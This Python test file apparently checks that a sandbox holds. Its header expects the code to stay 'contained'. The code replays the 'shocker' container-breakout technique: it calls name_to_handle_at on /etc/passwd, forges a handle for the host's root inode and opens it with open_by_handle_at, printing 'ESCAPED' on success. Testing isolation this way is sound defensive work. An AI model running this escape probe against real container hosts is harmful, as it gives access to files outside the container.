# expect: contained
# The "shocker" breakout: name_to_handle_at/open_by_handle_at to open host
# inodes by handle, bypassing path resolution.
import ctypes
import errno

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(8 + 128)
ctypes.memmove(handle, (ctypes.c_uint32 * 1)(128), 4)
mount_id = ctypes.c_int()
r = libc.syscall(303, -100, b"/etc/passwd", handle, ctypes.byref(mount_id), 0)
print("name_to_handle_at", r, errno.errorcode.get(ctypes.get_errno(), ""))
# A guessed handle for the root inode (ext4: inode 2, generation 0).
ctypes.memmove(handle, (ctypes.c_uint32 * 4)(8, 1, 2, 0), 16)
r = libc.syscall(304, -100, handle, 0)
print("open_by_handle_at", r, errno.errorcode.get(ctypes.get_errno(), ""))
if r >= 0:
    print("ESCAPED: open_by_handle_at gave an fd")
